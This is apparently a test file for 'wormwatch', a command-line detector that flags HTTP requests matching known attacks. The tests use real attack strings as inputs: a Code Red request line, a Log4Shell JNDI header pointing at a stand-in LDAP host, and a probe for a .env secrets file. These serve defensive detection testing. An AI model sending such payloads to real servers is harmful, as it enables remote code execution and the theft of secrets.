import assert from 'node:assert/strict';
import { runCli } from './run-cli.js';

describe('wormwatch check', () => {
  it('exits 1 and names CodeRed for its request line', async () => {
    const r = await runCli(['check', `GET /default.ida?${'N'.repeat(224)}%u9090%u6858%ucbd3%u7801 HTTP/1.0`]);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^detected: codered-i \(family codered, request stage\)/);
  });

  it('inspects headers given with -H, and prints JSON with --json', async () => {
    const r = await runCli(['check', 'GET / HTTP/1.1', '-H', 'User-Agent: Mozilla/5.0', '-H', 'X-Api-Version: ${jndi:ldap://198.51.100.7/a}', '--json']);
    assert.equal(r.code, 1, r.stderr);
    const v = JSON.parse(r.stdout) as Record<string, unknown>;
    assert.equal(v.signature, 'log4shell-jndi');
    assert.equal(v.detail, 'x-api-version: ${jndi:ldap://198.51.100.7/a}');
  });

  it('exits 0 for a clean request, and for a 404-stage probe the origin answered 200', async () => {
    const clean = await runCli(['check', 'GET /index.html HTTP/1.1']);
    assert.equal(clean.code, 0);
    assert.match(clean.stdout, /^clean/);
    const ok = await runCli(['check', 'GET /.env HTTP/1.1', '--status', '200']);
    assert.equal(ok.code, 0);
    const missing = await runCli(['check', 'GET /.env HTTP/1.1', '--status', '404']);
    assert.equal(missing.code, 1);
    assert.match(missing.stdout, /probe-dotenv .*404 stage/);
  });

  it('exits 2 on a usage error', async () => {
    assert.equal((await runCli(['check'])).code, 2);
    const bad = await runCli(['check', 'GET / HTTP/1.1', '-H', 'no-colon']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /expected "Name: value"/);
  });
});
